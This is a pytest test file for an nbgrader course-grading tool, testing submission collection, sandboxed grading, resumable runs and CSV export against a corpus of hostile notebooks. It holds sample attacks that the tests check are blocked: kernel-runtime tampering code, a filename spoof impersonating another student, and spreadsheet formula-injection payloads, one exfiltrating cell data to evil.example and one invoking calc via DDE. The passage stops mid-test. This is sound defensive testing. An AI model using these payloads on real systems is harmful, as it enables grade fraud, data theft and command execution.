"""The instructor's workflow end to end: collect, grade (sandboxed, parallel, resumable), feedback,
export, and nbgrader's exchange on one machine -- and a corpus of hostile submissions
(``tests/hostile/cases.py``) that must neither crash the grader nor earn undeserved points.

The grading tests build a scratch course (config + exercise 01's source) in a temporary
folder and use short limits (10 s per cell, 40 CPU seconds per kernel: a 10 s loop plus
the imports and the other cells must fit on a slow CI machine) so the corpus runs in
about a minute on two cores.
"""

from __future__ import annotations

import csv
import os
import signal
import subprocess
import sys
import zipfile
from pathlib import Path

import nbformat
import pytest

from coursetools import sandbox, sandbox_uids
from coursetools.collect import collect
from coursetools.feedback import export, feedback
from coursetools.grade import GradingRefused, Options, Outcome, Result, digest, grade, merge, read_state
from coursetools.layout import REPO, Course, make_scratch_course
from coursetools.sandbox import Limits
from tests.hostile import cases as hostile

pytestmark = pytest.mark.grading  # runs nbgrader end to end (deselect with -m "not grading")
ASSIGNMENT = hostile.ASSIGNMENT
NOTEBOOK = hostile.NOTEBOOK
SANDBOX_PROBLEM = sandbox.problem()
needs_sandbox = pytest.mark.skipif(SANDBOX_PROBLEM is not None, reason=f"no sandbox here: {SANDBOX_PROBLEM}")
FAST = Options(workers=2, cell_timeout=10, submission_timeout=180, limits=Limits(cpu_seconds=40, memory_mb=3072))


def make_course(root: Path) -> Path:
    """A course folder holding the repository's config and exercise 01's source."""
    return make_scratch_course(root, [ASSIGNMENT]).root


def quiet(_line: str) -> None:
    pass


def gradebook_scores(root: Path) -> dict[str, float]:
    from nbgrader.api import Gradebook

    with Gradebook(Course(root).db_url) as gb:
        return {s.student.id: float(s.score) for s in gb.find_assignment(ASSIGNMENT).submissions}


# ----------------------------------------------------------------------------------------------
# The course layout (coursetools.layout) and the command line's defaults.

def test_a_scratch_course_is_laid_out_as_nbgrader_sees_it(tmp_path):
    from nbgrader.coursedir import CourseDirectory

    course = make_scratch_course(tmp_path / "course", [ASSIGNMENT])
    nbgrader_view = CourseDirectory(config=course.config)
    assert course.source(ASSIGNMENT) == Path(nbgrader_view.format_path(nbgrader_view.source_directory, ".",
                                                                      ASSIGNMENT))
    assert course.notebook_names(ASSIGNMENT) == [NOTEBOOK] == Course().notebook_names(ASSIGNMENT)
    assert course.assignments() == [ASSIGNMENT]
    assert course.db_url == nbgrader_view.db_url == f"sqlite:///{course.root / 'gradebook.db'}"
    assert course.course_id == Course().course_id
    assert course.submitted("ann", ASSIGNMENT) == course.root / "submitted" / "ann" / ASSIGNMENT
    assert course.release() == course.root / "exercises"


def test_grade_command_defaults_are_the_options_defaults():
    from coursetools.cli import _parser

    args = _parser().parse_args(["grade"])
    options, limits = Options(), Limits()
    assert (args.workers, args.unsafe, args.timeout, args.submission_timeout, args.force) == \
        (options.workers, options.unsafe, options.cell_timeout, options.submission_timeout, options.force)
    assert (args.cpu, args.memory, args.processes) == (limits.cpu_seconds, limits.memory_mb, limits.processes)


# ----------------------------------------------------------------------------------------------
# collect: an LMS export folder -> submitted/<student>/<assignment>/

def _zip(path: Path, members: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)


def test_collect_places_the_usual_lms_names_and_reports_the_rest(tmp_path):
    course = make_course(tmp_path / "course")
    export_dir = tmp_path / "export"
    (export_dir / "bob").mkdir(parents=True)
    (export_dir / "Jane Doe_123456_assignsubmission_file").mkdir()
    nb = hostile.dump(hostile.correct_notebook())
    files = {
        "alice_01_divergences.ipynb": nb,                                   # <id>_<assignment>
        "alice.smith-01_divergences_final.ipynb": nb,                       # id with a dot, suffix
        "bob/01_divergences.ipynb": nb,                                     # a folder per student
        "01_divergences_carol.ipynb": nb,                                   # <assignment>_<id>
        "hana_ex01_divergences.ipynb": nb,                                  # <id>_<notebook name>
        "ex01_divergences_ivan.ipynb": nb,                                  # <notebook name>_<id>
        "notes.txt": b"not a notebook",
        "???.ipynb": nb,
    }
    for name, data in files.items():
        (export_dir / name).write_bytes(data)
    _zip(export_dir / "dave_01_divergences.zip", {"homework/my work.ipynb": nb, "__MACOSX/._x": b"", "data.csv": b"1"})
    _zip(export_dir / "erin_01_divergences.zip", {"01_divergences.ipynb": nb})
    _zip(export_dir / "frank_01_divergences.zip", {"readme.md": b"forgot the notebook"})
    (export_dir / "gina_01_divergences.zip").write_bytes(b"PK not really a zip")
    (export_dir / "zed_01_divergences.ipynb").symlink_to(Course().notebook(ASSIGNMENT))

    report = collect(export_dir, course)
    assert report.lms == "generic"

    rows = list(csv.DictReader(open(course / "collected" / "collect-report.csv")))
    assert len(rows) == len(report.rows)
    placed = {(r.student, r.assignment) for r in report.of("placed")}
    assert placed == {(s, ASSIGNMENT) for s in ["alice", "alice.smith", "bob", "carol", "dave", "erin", "hana", "ivan"]}
    moodle, canvas = tmp_path / "moodle", tmp_path / "canvas"
    (moodle / "Jane Doe_123456_assignsubmission_file").mkdir(parents=True)
    (moodle / "Jane Doe_123456_assignsubmission_file" / "01_divergences.ipynb").write_bytes(nb)  # folder style
    (moodle / "Max Mustermann_654321_assignsubmission_file_01_divergences.ipynb").write_bytes(nb)  # flat
    canvas.mkdir()
    (canvas / "doejane_LATE_777_888_01_divergences-1.ipynb").write_bytes(nb)
    assert collect(moodle, course).lms == "moodle" and collect(canvas, course).lms == "canvas"
    placed |= {(s, ASSIGNMENT) for s in ["123456", "654321", "777"]}
    for student, _ in placed:
        folder = course / "submitted" / student / ASSIGNMENT
        assert (folder / NOTEBOOK).read_bytes() == nb
        assert (folder / "timestamp.txt").read_text().strip()
    unplaced = {r.source for r in report.of("unplaced")}
    assert unplaced == {"notes.txt", "???.ipynb", "frank_01_divergences.zip", "zed_01_divergences.ipynb"}
    assert [r.source for r in report.of("refused")] == ["gina_01_divergences.zip"]  # not a zip: unreadable
    unplaced.add("gina_01_divergences.zip")
    for source in unplaced:  # reported, kept, and copied aside (a link as a link: never followed)
        assert (export_dir / source).exists() and (course / "collected" / "unplaced" / source).is_symlink() \
            == (source == "zed_01_divergences.ipynb")
        assert os.path.lexists(course / "collected" / "unplaced" / source)
    for source in unplaced - {"zed_01_divergences.ipynb"}:  # the copy in unplaced/ is the export's file
        assert (course / "collected" / "unplaced" / source).read_bytes() == (export_dir / source).read_bytes()
    dave = next(r for r in report.rows if r.student == "dave")
    assert "wrong name" in dave.note and "not collected" in dave.note


def test_collect_keeps_the_newest_file_and_updates_on_rerun(tmp_path):
    course = make_course(tmp_path / "course")
    export_dir = tmp_path / "export"
    export_dir.mkdir()
    old, new = export_dir / "alice_01_divergences.ipynb", export_dir / "alice_01_divergences_v2.ipynb"
    old.write_bytes(hostile.dump(hostile.blank_notebook()))
    new.write_bytes(hostile.dump(hostile.correct_notebook()))
    os.utime(old, (1_700_000_000, 1_700_000_000))
    os.utime(new, (1_700_000_100, 1_700_000_100))
    report = collect(export_dir, course)
    assert [r.source for r in report.of("placed")] == [new.name]
    assert [r.source for r in report.of("superseded")] == [old.name]
    target = course / "submitted" / "alice" / ASSIGNMENT / NOTEBOOK
    assert target.read_bytes() == new.read_bytes()
    assert "2023-11-14 22:15:00" in (target.parent / "timestamp.txt").read_text()
    assert collect(export_dir, course).of("unchanged")
    new.write_bytes(hostile.dump(hostile.blank_notebook()))
    assert [r.source for r in collect(export_dir, course).of("updated")] == [new.name]


def test_collect_with_a_custom_pattern_and_dry_run(tmp_path):
    course = make_course(tmp_path / "course")
    export_dir = tmp_path / "export"
    export_dir.mkdir()
    (export_dir / "s1234567-homework.ipynb").write_bytes(hostile.dump(hostile.correct_notebook()))
    report = collect(export_dir, course, assignment=ASSIGNMENT, pattern=r"^(?P<student>s\d{7})-", dry_run=True)
    assert [(r.student, r.status) for r in report.rows] == [("s1234567", "placed (dry run)")]
    assert not (course / "submitted").exists()
    collect(export_dir, course, assignment=ASSIGNMENT, pattern=r"^(?P<student>s\d{7})-")
    assert (course / "submitted" / "s1234567" / ASSIGNMENT / NOTEBOOK).exists()
    with pytest.raises(ValueError, match="no assignment"):
        collect(export_dir, course, assignment="99_nothing")


def test_collect_chooses_the_lms_format_once_so_a_name_cannot_spoof_another_student(tmp_path):
    """A Canvas upload named like a Moodle one (``..._222222_assignsubmission_file_...``) is filed
    under its uploader's Canvas id, never under 222222's, and cannot replace 222222's submission."""
    course = make_course(tmp_path / "course")
    export_dir = tmp_path / "canvas"
    export_dir.mkdir()
    victim, attacker = hostile.dump(hostile.correct_notebook()), hostile.dump(hostile.blank_notebook())
    (export_dir / "doejane_222222_5001_01_divergences.ipynb").write_bytes(victim)
    (export_dir / "roefred_333333_5002_01_divergences.ipynb").write_bytes(victim)
    spoof = export_dir / "mallory_111111_5003_x_222222_assignsubmission_file_01_divergences.ipynb"
    spoof.write_bytes(attacker)
    stray = export_dir / "alice_01_divergences.ipynb"  # no Canvas name: unplaced, not guessed
    stray.write_bytes(attacker)
    os.utime(spoof, (2_000_000_000, 2_000_000_000))  # newer than the victim's upload
    report = collect(export_dir, course)
    assert report.lms == "canvas"
    assert (course / "submitted" / "222222" / ASSIGNMENT / NOTEBOOK).read_bytes() == victim
    assert (course / "submitted" / "111111" / ASSIGNMENT / NOTEBOOK).read_bytes() == attacker
    assert {r.source for r in report.of("unplaced")} == {stray.name}
    assert not (course / "submitted" / "alice").exists()
    # Forced to Moodle, no Canvas name fits: everything is unplaced, nothing is guessed.
    forced = collect(export_dir, course, lms="moodle", dry_run=True)
    assert forced.lms == "moodle" and {r.student for r in forced.rows if r.status != "unplaced"} == {"222222"}
    # Half Moodle, half Canvas: the format cannot be told; the instructor must say which.
    mixed = tmp_path / "mixed"
    mixed.mkdir()
    (mixed / "doejane_222222_5001_01_divergences.ipynb").write_bytes(victim)
    (mixed / "Jane Doe_444444_assignsubmission_file_01_divergences.ipynb").write_bytes(victim)
    with pytest.raises(ValueError, match="--lms"):
        collect(mixed, course, dry_run=True)


def _patched_zip(path: Path, data: bytes, *, method: int = zipfile.ZIP_STORED, flip: int | None = None,
                 flags: int = 0, method_id: int | None = None) -> None:
    """A one-notebook zip, then damaged: ``flip`` a byte of the member's data, or set header ``flags``
    (0x1: encrypted) or the compression ``method_id`` (9: Deflate64) in both headers."""
    _zip_with(path, {NOTEBOOK: data}, method)
    raw = bytearray(path.read_bytes())
    local, central = raw.index(b"PK\x03\x04"), raw.index(b"PK\x01\x02")
    if flip is not None:
        start = local + 30 + len(NOTEBOOK)
        raw[start + flip] ^= 0xFF
    for header, flag_at, method_at in ((local, 6, 8), (central, 8, 10)):
        raw[header + flag_at] |= flags
        if method_id is not None:
            raw[header + method_at:header + method_at + 2] = method_id.to_bytes(2, "little")
    path.write_bytes(bytes(raw))


def _zip_with(path: Path, members: dict[str, bytes], method: int) -> None:
    with zipfile.ZipFile(path, "w", compression=method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)


def test_collect_refuses_each_unreadable_zip_alone_and_collects_the_rest(tmp_path, capsys):
    from coursetools.cli import main

    course = make_course(tmp_path / "course")
    export_dir = tmp_path / "export"
    export_dir.mkdir()
    nb = hostile.dump(hostile.correct_notebook())
    bad = {
        "crc_01_divergences.zip": dict(flip=100),                                   # stored: bad CRC
        "deflate_01_divergences.zip": dict(method=zipfile.ZIP_DEFLATED, flip=20),   # corrupt deflate data
        "locked_01_divergences.zip": dict(flags=0x1),                               # encrypted member
        "d64_01_divergences.zip": dict(method=zipfile.ZIP_DEFLATED, method_id=9),   # Deflate64
    }
    for name, damage in bad.items():
        _patched_zip(export_dir / name, nb, **damage)
    (export_dir / "ann_01_divergences.ipynb").write_bytes(nb)
    _zip(export_dir / "ben_01_divergences.zip", {NOTEBOOK: nb})
    (export_dir / "cat_01_divergences.zip").write_bytes(b"PK\x03\x04 truncated")

    assert main(["--course-dir", str(course), "collect", str(export_dir)]) == 1, "some files were refused"
    out, err = capsys.readouterr()
    assert "5 files were refused" in err and "2 placed" in out
    rows = {r["source"]: r for r in csv.DictReader(open(course / "collected" / "collect-report.csv"))}
    assert {s for s, r in rows.items() if r["status"] == "refused"} == set(bad) | {"cat_01_divergences.zip"}
    assert "encrypted" in rows["locked_01_divergences.zip"]["note"]
    assert "compression method" in rows["d64_01_divergences.zip"]["note"]
    assert {s for s, r in rows.items() if r["status"] == "placed"} == {"ann_01_divergences.ipynb", "ben_01_divergences.zip"}
    for student in ("ann", "ben"):
        assert (course / "submitted" / student / ASSIGNMENT / NOTEBOOK).read_bytes() == nb
    for name in set(bad):  # each refused file is kept aside for the instructor
        assert (course / "collected" / "unplaced" / name).read_bytes() == (export_dir / name).read_bytes()
    assert sorted(p.name for p in (course / "submitted").iterdir()) == ["ann", "ben"]


# ----------------------------------------------------------------------------------------------
# grade refuses to run student code unsandboxed unless told to

def test_grade_refuses_without_bubblewrap(tmp_path, monkeypatch, capsys):
    course = make_course(tmp_path / "course")
    monkeypatch.setenv(sandbox.BWRAP_ENV, str(tmp_path / "no-bwrap"))
    with pytest.raises(GradingRefused, match="--unsafe"):
        grade(course, options=Options(), say=quiet)
    from coursetools.cli import main

    assert main(["--course-dir", str(course), "grade"]) == 2
    assert "bubblewrap" in capsys.readouterr().err


def test_unsafe_grades_without_bubblewrap(tmp_path, monkeypatch):
    """--unsafe is the explicit way out where bubblewrap cannot run (limits only, no isolation)."""
    course = make_course(tmp_path / "course")
    folder = course / "submitted" / "ann" / ASSIGNMENT
    folder.mkdir(parents=True)
    (folder / NOTEBOOK).write_bytes(hostile.dump(hostile.blank_notebook()))
    monkeypatch.setenv(sandbox.BWRAP_ENV, str(tmp_path / "no-bwrap"))
    outcomes = grade(course, options=Options(workers=1, unsafe=True, cell_timeout=30), say=quiet)
    assert [(o.student, o.status, o.score) for o in outcomes] == [("ann", "graded", 0.0)]


# ----------------------------------------------------------------------------------------------
# One grading run at a time per course: a lock that a killed run cannot leave behind.

HOLD_LOCK = ("import fcntl, os, sys, time\n"
             "fd = os.open(sys.argv[1], os.O_RDWR | os.O_CREAT)\n"
             "fcntl.flock(fd, fcntl.LOCK_EX)\n"
             "os.pwrite(fd, b'%d\\n' % os.getpid(), 0)\n"
             "print('held', flush=True)\n"
             "time.sleep(600)\n")


def test_a_second_grading_run_of_a_course_refuses_and_a_killed_one_leaves_no_lock(tmp_path, capsys):
    from coursetools.cli import main
    from coursetools.grade.driver import LOCK_FILE

    course = make_course(tmp_path / "course")
    lock = course / "grading" / LOCK_FILE
    lock.parent.mkdir(parents=True)
    holder = subprocess.Popen([sys.executable, "-c", HOLD_LOCK, str(lock)], stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        with pytest.raises(GradingRefused, match=rf"another grading run \(process {holder.pid}\)"):
            grade(course, options=Options(unsafe=True), say=quiet)
        assert main(["--course-dir", str(course), "grade", "--unsafe"]) == 2
        assert "one run at a time per course" in capsys.readouterr().err
    finally:
        holder.kill()  # SIGKILL: no cleanup runs, the kernel drops the lock
        holder.wait()
    said = []
    assert grade(course, options=Options(unsafe=True), say=said.append) == []
    assert said and said[0].startswith("nothing to grade")
    assert lock.read_text().strip() == str(os.getpid())  # the new holder wrote its pid


# ----------------------------------------------------------------------------------------------
# Each run checks itself first: the reference solution must get full marks (the canary).

def _break_reference(course: Path, error: str) -> None:
    """Make the course's own reference answer for kl_laplace fail the way a mismatched course_lib does."""
    source = Course(course).notebook(ASSIGNMENT)
    nb = nbformat.read(source, as_version=4)
    answer = hostile.cell(nb, "kl_laplace")
    answer.source = answer.source.replace("### BEGIN SOLUTION", f"### BEGIN SOLUTION\n    {error}", 1)
    nbformat.write(nb, source)


@needs_sandbox
@pytest.mark.slow
def test_canary_stops_a_run_that_cannot_grade_the_reference_solution(tmp_path, capsys):
    course = make_course(tmp_path / "course")
    _break_reference(course, "raise ModuleNotFoundError(\"No module named 'course_lib.divergences'\")")
    folder = course / "submitted" / "ann" / ASSIGNMENT
    folder.mkdir(parents=True)
    (folder / NOTEBOOK).write_bytes(hostile.dump(hostile.correct_notebook()))
    from coursetools.cli import main

    assert main(["--course-dir", str(course), "grade", "--workers", "1", "--timeout", "10", "--cpu", "15"]) == 2
    err = capsys.readouterr().err
    assert "canary failed, no student was graded" in err and "ModuleNotFoundError" in err
    assert "different course_lib" in err
    assert not (course / "grading").exists() or not list((course / "grading").rglob("*.json"))
    assert "reference-canary" not in gradebook_scores(course)


@needs_sandbox
@pytest.mark.slow
def test_an_exercise_with_a_written_answer_passes_the_canary_and_leaves_the_answer_to_a_person(tmp_path):
    """The canary asks the reference solution for every autograded point, not for the hand-graded
    written answer (exercise 02: 4 + 3 + 2 autograded points, 2 by hand)."""
    from coursetools.release import solved_release

    course = make_scratch_course(tmp_path / "course", ["02_pareto"])
    folder = course.submitted("ann", "02_pareto")
    folder.mkdir(parents=True)
    nbformat.write(solved_release("02_pareto"), folder / course.notebook("02_pareto").name)
    said = []
    (ann,) = grade(course.root, options=Options(workers=1, cell_timeout=None, submission_timeout=300,
                                                limits=Limits(cpu_seconds=120)), say=said.append)
    assert (ann.status, ann.score, ann.max_score) == ("graded", 9.0, 11.0), (ann.reason, said)
    assert any("per cell" in line for line in said), "the canary passed and derived the cell limit"


MALFORMED = ("invalid_mimebundle", "unhashable_grade_id", "deeply_nested")


@needs_sandbox
@pytest.mark.slow
def test_malformed_submissions_are_normalized_or_refused_once_and_listed(tmp_path, capsys):
    """Data that used to fail the grader on every run (NotebookValidationError, TypeError,
    RecursionError) is normalized or refused once, with a reason, in grades.csv and status."""
    from coursetools.cli import main

    root = make_course(tmp_path / "course")
    ctx = hostile.Context(course=root, victim="none")
    for name in MALFORMED:
        hostile.write_submission(root, hostile.BY_NAME[name], ctx)
    outcomes = {o.student: o for o in grade(root, options=FAST, say=quiet)}
    for name in MALFORMED:
        case = hostile.BY_NAME[name]
        assert (outcomes[name].status, outcomes[name].score) == (case.status, case.score), outcomes[name].reason
    assert "nested too deeply" in outcomes["deeply_nested"].reason
    assert grade(root, options=FAST, say=quiet) == [], "a refusal is final: not retried on the next run"
    rows = {r["student_id"]: r for r in csv.DictReader(open(export(root, say=quiet)))}
    assert {s: rows[s]["status"] for s in MALFORMED} == {s: hostile.BY_NAME[s].status for s in MALFORMED}
    assert "nested too deeply" in rows["deeply_nested"]["note"]
    capsys.readouterr()
    assert main(["--course-dir", str(root), "status"]) == 0
    assert "rejected 01_divergences deeply_nested: " in capsys.readouterr().out


def _runtime_writer(ctx: hostile.Context) -> bytes:
    """Leaves answers, a broken connection file and log text in its kernel's runtime folder."""
    nb = hostile.correct_notebook()
    answer = hostile.cell(nb, "kl_laplace")
    attack = ("import os, sys\n"
              "_cf = sys.argv[sys.argv.index('-f') + 1]\n"
              "print('KERNEL-UID', os.getuid())\n"
              f"open(os.path.join(os.path.dirname(_cf), 'answers.py'), 'w').write({answer.source!r})\n"
              "os.write(2, b'INJECTED-BY-WRITER ' * 1000)\n"
              "os.remove(_cf)\n"
              "os.mkdir(_cf)\n")
    answer.source = attack + answer.source
    return hostile.dump(nb)


def _runtime_reader(ctx: hostile.Context) -> bytes:
    """Leaves kl_laplace unanswered and runs whatever answers it finds in its runtime folder."""
    nb = hostile.correct_notebook()
    answer = hostile.cell(nb, "kl_laplace")
    answer.source = (hostile.cell(hostile.blank_notebook(), "kl_laplace").source + "\n"
                     "import glob, os, sys\n"
                     "_rt = os.path.dirname(sys.argv[sys.argv.index('-f') + 1])\n"
                     "print('KERNEL-UID', os.getuid())\n"
                     "for _p in glob.glob(os.path.join(_rt, '*answers.py')) + glob.glob(os.path.join(_rt, '..', '*', '*answers.py')):\n"
                     "    exec(open(_p).read())\n")
    return hostile.dump(nb)


def _printed_uid(root: Path, student: str) -> int:
    nb = nbformat.read(root / "autograded" / student / ASSIGNMENT / NOTEBOOK, as_version=4)
    text = "".join(o.get("text", "") for c in nb.cells if c.cell_type == "code" for o in c.outputs)
    return int(text.split("KERNEL-UID", 1)[1].split()[0])


@needs_sandbox
@pytest.mark.slow
def test_one_kernel_leaves_nothing_for_the_next(tmp_path):
    """Issue 17, items 1-3: the runtime folder, log and uid of a kernel are its own. On one worker,
    the writer's answers, its broken kernel.json and its log text never reach the reader."""
    root = make_course(tmp_path / "course")
    ctx = hostile.Context(course=root, victim="none")
    for student, make in (("a_writer", _runtime_writer), ("b_reader", _runtime_reader)):
        folder = root / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        (folder / NOTEBOOK).write_bytes(make(ctx))
    one_worker = Options(workers=1, cell_timeout=10, submission_timeout=180,
                         limits=Limits(cpu_seconds=40, memory_mb=3072))
    outcomes = {o.student: o for o in grade(root, options=one_worker, say=quiet)}
    assert outcomes["a_writer"].status == "graded"
    reader = outcomes["b_reader"]
    assert (reader.status, reader.score) == ("graded", hostile.ATTACKED), reader.reason
    assert "INJECTED-BY-WRITER" not in reader.reason + " ".join(reader.notes)
    if sandbox.running_as_root():  # a uid of its own per kernel, never one of the fixed probe uids
        uids = {_printed_uid(root, s) for s in ("a_writer", "b_reader")}
        assert len(uids) == 2 and min(uids) >= sandbox_uids.UID_BASE + sandbox_uids.UID_PROBES


def test_cell_limit_follows_the_reference_solutions_slowest_cell(tmp_path):
    from coursetools.grade.driver import CELL_LIMIT_FACTOR, CELL_LIMIT_FLOOR, cell_limit, slowest_cell

    assert cell_limit(0.2, 60) == CELL_LIMIT_FLOOR                  # a fast solution: the floor
    assert cell_limit(3.0, 60) == int(CELL_LIMIT_FACTOR * 3.0)      # a documented multiple
    assert cell_limit(30.0, 60) == 60                               # never above the configured limit
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x"), nbformat.v4.new_code_cell("y"),
                                         nbformat.v4.new_markdown_cell("z")])
    nb.cells[0].metadata["execution"] = {"iopub.execute_input": "2026-01-01T00:00:00.000000Z",
                                         "shell.execute_reply": "2026-01-01T00:00:01.500000Z"}
    nb.cells[1].metadata["execution"] = {"iopub.execute_input": "2026-01-01T00:00:02.000000Z",
                                         "shell.execute_reply": "2026-01-01T00:00:02.250000Z"}
    nbformat.write(nb, tmp_path / "a.ipynb")
    assert slowest_cell(str(tmp_path)) == 1.5
    assert slowest_cell(None) is None


@needs_sandbox
@pytest.mark.slow
def test_a_looper_costs_the_derived_cell_limit_not_the_configured_one(tmp_path):
    """Without --timeout, a cell may take 10x the reference solution's slowest cell (at least 10 s),
    not the configured 60 s: an infinite loop costs seconds, and its feedback names the limit."""
    root = make_course(tmp_path / "course")
    folder = root / "submitted" / "looper" / ASSIGNMENT
    folder.mkdir(parents=True)
    (folder / NOTEBOOK).write_bytes(hostile.BY_NAME["infinite_loop"].make(hostile.Context(root, "none")))
    said = []
    options = Options(workers=1, cell_timeout=None, submission_timeout=180, limits=Limits(cpu_seconds=60))
    (looper,) = grade(root, options=options, say=said.append)
    limit = int(next(line for line in said if "per cell" in line).split("-> ")[1].split()[0])
    assert limit < 60
    assert (looper.status, looper.score) == ("graded", hostile.ATTACKED)
    assert looper.seconds < 60, "the loop was stopped at the derived limit"
    nb = nbformat.read(root / "autograded" / "looper" / ASSIGNMENT / NOTEBOOK, as_version=4)
    assert any(o.get("ename") == "CellTimeoutError" for c in nb.cells if c.cell_type == "code" for o in c.outputs)
    assert f"A cell was stopped after {limit} seconds" in nb.cells[0].source  # the grader's notes
    assert any(f"stopped after {limit} seconds" in n for n in looper.notes)


# ----------------------------------------------------------------------------------------------
# The hostile corpus, graded once for the module.

@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    if SANDBOX_PROBLEM is not None:
        pytest.skip(f"no sandbox here: {SANDBOX_PROBLEM}")
    root = make_course(tmp_path_factory.mktemp("corpus") / "course")
    ctx = hostile.Context(course=root, victim="correct")
    originals = {}
    for case in hostile.CASES:
        folder = hostile.write_submission(root, case, ctx)
        originals[case.name] = digest(folder)
    outcomes = {o.student: o for o in grade(root, options=FAST, say=print)}
    feedback(root, say=quiet)
    grades_csv = {row["student_id"]: row for row in csv.DictReader(open(export(root, say=quiet)))}
    return {"root": root, "outcomes": outcomes, "csv": grades_csv, "originals": originals}


@pytest.mark.slow
@pytest.mark.parametrize("case", hostile.CASES, ids=[c.name for c in hostile.CASES])
def test_hostile_submission_gets_what_it_deserves(corpus, case):
    root, outcome = corpus["root"], corpus["outcomes"][case.name]
    assert outcome.status == case.status, outcome.reason
    assert outcome.score == case.score
    assert outcome.max_score == hostile.MAX  # the written answer is in the maximum, graded by hand
    for label in case.review:
        assert label in outcome.review, f"{case.name} should be flagged for review: {label!r}"
    assert float(corpus["csv"][case.name]["score"]) == case.score
    assert corpus["csv"][case.name]["status"] == case.status
    pages = list((root / "feedback" / case.name / ASSIGNMENT).glob("*.html"))
    assert pages, "every submission gets a feedback page"
    text = "\n".join(p.read_text() for p in pages)
    for words in case.feedback:
        assert words in text, f"the feedback of {case.name} should say {words!r}"
    for words in case.absent:
        assert words not in text, f"the feedback of {case.name} must not contain {words!r}"


@pytest.mark.slow
def test_the_rest_of_the_class_is_unharmed(corpus):
    root = corpus["root"]
    assert set(corpus["outcomes"]) == {c.name for c in hostile.CASES}, "every submission was graded or rejected"
    for case in hostile.CASES:  # nothing rewrote anyone's submission
        assert digest(root / "submitted" / case.name / ASSIGNMENT) == corpus["originals"][case.name]
    correct = nbformat.read(root / "autograded" / "correct" / ASSIGNMENT / NOTEBOOK, as_version=4)
    assert "{}" not in [c.source for c in correct.cells]
    assert gradebook_scores(root)["correct"] == hostile.FULL


@pytest.mark.slow
def test_outputs_and_metadata_cannot_inflate_anything(corpus):
    from nbgrader.api import Gradebook

    root = corpus["root"]
    flood = root / "autograded" / "print_100mb" / ASSIGNMENT / NOTEBOOK
    assert flood.stat().st_size < 1_000_000
    assert all(p.stat().st_size < 2_000_000 for p in (root / "feedback").rglob("*.html"))
    with Gradebook(Course(root).db_url) as gb:
        assignment = gb.find_assignment(ASSIGNMENT)
        assert float(assignment.max_score) == hostile.MAX
        assert {c.name for c in assignment.notebooks[0].grade_cells} == \
            {"test_kl_laplace", "test_tv_laplace", "test_kl_control_variate", "test_experiment", "written_answer"}


@pytest.mark.slow
def test_status_counts_everything_and_lists_the_problems(corpus, capsys):
    from coursetools.cli import main

    assert main(["--course-dir", str(corpus["root"]), "status"]) == 0
    out = capsys.readouterr().out
    row = next(line.split() for line in out.splitlines() if line.startswith(ASSIGNMENT))
    rejected = sum(c.status == "rejected" for c in hostile.CASES)
    assert row[1:] == [str(len(hostile.CASES)), str(len(hostile.CASES) - rejected), str(rejected), "0", "0",
                       str(len(hostile.CASES))]
    assert "invalid_json: ex01_divergences.ipynb is not a valid notebook" in out
    assert "calls_reference: review: calls course_lib reference code" in out


@pytest.mark.slow
def test_regrading_skips_what_is_done_and_redoes_what_changed(corpus):
    root = corpus["root"]
    assert grade(root, options=FAST, say=quiet) == []
    before = read_state(root, ASSIGNMENT, "correct")["graded_at"]
    (root / "submitted" / "blank" / ASSIGNMENT / NOTEBOOK).write_bytes(hostile.dump(hostile.correct_notebook()))
    again = grade(root, options=FAST, say=quiet)
    assert [(o.student, o.score) for o in again] == [("blank", hostile.FULL)]
    assert read_state(root, ASSIGNMENT, "correct")["graded_at"] == before
    scores = gradebook_scores(root)
    assert len(scores) == len(hostile.CASES) and scores["blank"] == hostile.FULL


def test_merging_a_result_twice_counts_it_once(tmp_path):
    """What a rerun after a crash between the gradebook commit and the state file does."""
    root = make_course(tmp_path / "course")
    from coursetools.grade import prepare

    template = prepare(root, ASSIGNMENT, tmp_path / "run")
    result = Result(Outcome(ASSIGNMENT, "zed", "rejected", max_score=10.0, reason="test"))
    for _ in range(2):
        merge(root, template.course_id, result)
    assert gradebook_scores(root) == {"zed": 0.0}


def test_grades_csv_cells_are_never_evaluated_by_a_spreadsheet(tmp_path):
    """A student id or a reason starting with = + - @ is written with a leading ' (numbers stay numbers)."""
    root = make_course(tmp_path / "course")
    from coursetools.grade import prepare

    template = prepare(root, ASSIGNMENT, tmp_path / "run")
    payloads = {"mallory": '=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1": "+cmd|' /C calc'!A0",
                "-2+3": "-2+3", "@sum": "@SUM(A1:A9)", "tab": "\t=1+1"}
    for student, reason in payloads.items():
        merge(root, template.course_id, Result(Outcome(ASSIGNMENT, student, "rejected", max_score=10.0,
                                                       reason=reason)))
    merge(root, template.course_id, Result(Outcome(ASSIGNMENT, "zoe", "error",
                                                   reason="Traceback (most recent call last):\n  ...\nOSError: disk full")))
    rows = list(csv.reader(open(export(root, say=quiet))))
    for row in rows[1:]:
        for cell in row:
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                float(cell)  # only a number may start like a formula
    by_id = {r[3]: r for r in rows[1:]}
    assert set(by_id) == {"mallory", "'=1+1", "'-2+3", "'@sum", "tab", "zoe"}
    assert by_id["zoe"][-2:] == ["error", "grading failed, will be retried: OSError: disk full"]  # its own row
    assert by_id["mallory"][-1] == "'" + payloads["mallory"] and by_id["'@sum"][-1] == "'@SUM(A1:A9)"
    assert by_id["tab"][-1] == "'\t=1+1"
    assert not list((root).glob(".grades.csv.*"))  # written whole, then put in place


# ----------------------------------------------------------------------------------------------
# Interrupted and resumed: nothing lost, nothing counted twice.

@needs_sandbox
@pytest.mark.slow
def test_a_killed_grading_run_resumes_where_it_stopped(tmp_path):
    root = make_course(tmp_path / "course")
    ctx = hostile.Context(course=root, victim="none")
    students = {"ann": "correct", "ben": "blank", "cat": "blank"}
    for student, case in students.items():
        folder = root / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        (folder / NOTEBOOK).write_bytes(hostile.BY_NAME[case].make(ctx))
    cmd = [sys.executable, "-m", "coursetools.cli", "--course-dir", str(root), "grade", "--workers", "2",
           "--timeout", "30", "--cpu", "60"]
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, text=True, cwd=REPO)
    for line in proc.stdout:
